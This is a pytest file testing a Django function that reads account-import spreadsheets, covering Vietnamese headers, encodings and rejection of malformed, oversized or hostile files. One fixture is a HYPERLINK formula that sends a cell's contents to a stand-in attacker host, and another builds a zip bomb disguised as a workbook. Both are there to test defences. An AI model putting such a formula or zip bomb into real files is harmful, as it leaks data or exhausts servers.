"""Reading a list of new accounts (accounts.user_rows): shapes, encodings, hostile files.
No database."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from accounts import user_rows
from accounts.user_rows import read_user_file
from tests.accounts.factories import csv_bytes, xlsx_bytes

AN = ("Nguyễn Văn An", "an@sct.example.gov.vn", "0209 111", "Cán bộ cơ quan giúp đỡ", "SCT", "", "")
HOA = ("Lò Thị Hoa", "", "", "commune_officer", "", "90001", "hoa.xuanlac")
EXPECTED = [
    (
        2,
        {
            "name": "Nguyễn Văn An",
            "email": "an@sct.example.gov.vn",
            "phone": "0209 111",
            "role": "Cán bộ cơ quan giúp đỡ",
            "agency": "SCT",
            "commune": "",
            "username": "",
        },
    ),
    (
        3,
        {
            "name": "Lò Thị Hoa",
            "email": "",
            "phone": "",
            "role": "commune_officer",
            "agency": "",
            "commune": "90001",
            "username": "hoa.xuanlac",
        },
    ),
]


def refused(content: bytes, name: str) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        read_user_file(content, name=name)
    return caught.value


@pytest.mark.parametrize("bom", [False, True])
def test_a_csv_with_or_without_bom_reads_the_same(bom):
    assert read_user_file(csv_bytes([AN, HOA], bom=bom), name="ds.csv") == EXPECTED


def test_an_excel_workbook_reads_like_the_csv():
    assert read_user_file(xlsx_bytes([AN, HOA]), name="DS.XLSX") == EXPECTED


def test_headers_may_be_english_unaccented_in_any_order_with_extra_columns():
    header = ("ROLE", "Ghi chú", "Email", "Ho ten", "Username", "Commune", "agency", "Phone")
    row = ("leader", "x", "a@b.vn", "An", "", "", "", "")

    records = read_user_file(csv_bytes([row], header=header), name="ds.csv")

    assert records == [
        (
            2,
            {
                "role": "leader",
                "email": "a@b.vn",
                "name": "An",
                "username": "",
                "commune": "",
                "agency": "",
                "phone": "",
            },
        )
    ]


def test_a_semicolon_csv_as_excel_saves_it_in_some_locales():
    records = read_user_file(csv_bytes([AN], delimiter=";"), name="ds.csv")

    assert records[0][1]["name"] == "Nguyễn Văn An"


def test_rows_keep_their_spreadsheet_numbers_and_blank_rows_are_skipped():
    records = read_user_file(csv_bytes([AN, ("",) * 7, HOA]), name="ds.csv")

    assert [number for number, _cells in records] == [2, 4]


def test_excel_cells_are_text_formulas_included_never_evaluated():
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")'
    row = (formula, "a@b.vn", 912345678, "leader", "", "", "")

    cells = read_user_file(xlsx_bytes([row]), name="ds.xlsx")[0][1]

    assert cells["name"] == formula
    assert cells["phone"] == "912345678"


def test_the_template_reads_back_as_one_row():
    content = user_rows.template_csv().encode("utf-8")

    records = read_user_file(content, name="mau.csv")

    assert content.startswith("\ufeff".encode())
    assert [cells["name"] for _n, cells in records] == ["Nguyễn Văn An"]


# Refused --------------------------------------------------------------------------------------


def test_a_windows_encoded_csv_is_refused_with_a_way_out():
    # Windows' Vietnamese code page, as an old Excel saves "CSV (Comma delimited)".
    content = "họ tên,e-mail,vai trò\nĐô\u0303 Văn An,a@b.vn,leader\n".encode("cp1258", "replace")

    error = refused(content, "ds.csv")

    assert error.code == "encoding"
    assert "CSV UTF-8" in error.messages[0]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"%PDF-1.7 ...", "ds.pdf"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "ds.csv"),
        ("họ tên,e-mail,vai trò\n".encode("utf-16"), "ds.csv"),  # Excel's "Unicode text"
        (b"not a zip at all", "ds.xlsx"),
        (b"", "no-extension"),
    ],
)
def test_a_file_that_is_not_a_list_is_refused(content, name):
    error = refused(content, name)

    assert error.code == "format"
    assert "Chỉ nhận tệp CSV (UTF-8) hoặc Excel (.xlsx)" in error.messages[0]


def test_a_zip_bomb_dressed_as_a_workbook_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"\0" * (user_rows.MAX_UNPACKED_BYTES + 1))

    assert refused(out.getvalue(), "ds.xlsx").code == "format"


def test_a_10_mb_file_is_refused():
    content = csv_bytes([AN]) + b"x" * (10 * 1024 * 1024)

    error = refused(content, "ds.csv")

    assert error.code == "too_large"
    assert error.messages == ["Tệp lớn quá 2 MB; hãy chia thành nhiều tệp."]


def test_more_rows_than_the_cap_are_refused():
    rows = [("An", f"a{n}@b.vn", "", "leader", "", "", "") for n in range(user_rows.MAX_ROWS + 1)]

    assert refused(csv_bytes(rows), "ds.csv").code == "too_many_rows"


def test_missing_columns_are_named():
    error = refused(csv_bytes([("An",)], header=("họ tên",)), "ds.csv")

    assert error.code == "columns"
    assert "vai trò, e-mail" in error.messages[0]


def test_a_header_without_rows_is_refused():
    assert refused(csv_bytes([]), "ds.csv").code == "empty"
